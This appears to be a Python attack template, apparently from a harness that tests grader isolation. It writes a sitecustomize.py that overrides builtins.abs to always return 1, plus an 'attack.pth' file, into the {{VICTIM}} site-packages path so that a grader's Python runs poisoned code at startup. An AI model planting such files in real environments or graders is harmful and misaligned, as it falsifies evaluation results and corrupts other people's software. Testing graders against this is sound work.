"""Put a sitecustomize.py and a .pth file where the grader's Python looks for packages."""

FIRST = """
for _name, _text in {
    "sitecustomize.py": "import builtins\\nbuiltins.abs = lambda value: 1\\n",
    "attack.pth": "import os\\n",
}.items():
    try:
        with open("{{VICTIM}}/site/" + _name, "w") as _file:
            _file.write(_text)
    except OSError:
        pass
"""
